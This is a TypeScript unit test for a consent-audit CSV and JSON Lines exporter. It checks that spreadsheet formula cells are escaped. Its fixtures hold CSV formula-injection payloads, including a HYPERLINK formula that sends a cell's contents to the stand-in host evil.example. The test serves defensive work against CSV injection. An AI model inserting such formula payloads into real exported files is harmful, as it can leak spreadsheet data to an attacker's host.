import { type AuditEntry, chainAll, GENESIS } from '@consent-sync/consent-core'
import { describe, expect, it } from 'vitest'
import { exportEntries } from './exportEntries'

const record = {
  customerId: 'C-0001',
  purposeId: 'usage-analytics',
  decision: 'withdrawn',
  previousState: 'granted',
  newState: 'withdrawn',
  conflicted: false,
  actorId: 'csr2',
  actorRole: 'csr',
  channel: 'store',
  noticeVersion: '1.0',
  deviceAt: '2026-11-26T10:00:00Z',
  receivedAt: '2026-11-26T10:00:01.000Z',
  connectionId: 'conn-1',
  updateHash: 'ab'.repeat(32),
} as const

const entries: AuditEntry[] = chainAll(GENESIS, [
  { ...record, decisionId: 'd-1', evidence: '=1+2' },
  { ...record, decisionId: '=HYPERLINK("http://evil.example/?"&A1,"open")', evidence: '@SUM(1,2)' },
])

describe('exportEntries (an agent export built in the browser)', () => {
  it('neutralises formula cells in CSV as the server does (consent-core SPEC 4.4)', () => {
    const rows = exportEntries(entries, 'csv').split('\r\n')
    expect(rows[1]).toContain(`,"'=1+2",`)
    expect(rows[2]).toContain(`,"'=HYPERLINK(""http://evil.example/?""&A1,""open"")",`)
    expect(rows[2]).toContain(`,"'@SUM(1,2)",`)
  })

  it('keeps JSON Lines exact', () => {
    const lines = exportEntries(entries, 'jsonl').trimEnd().split('\n')
    expect(lines.map((l) => JSON.parse(l))).toEqual(entries)
  })
})
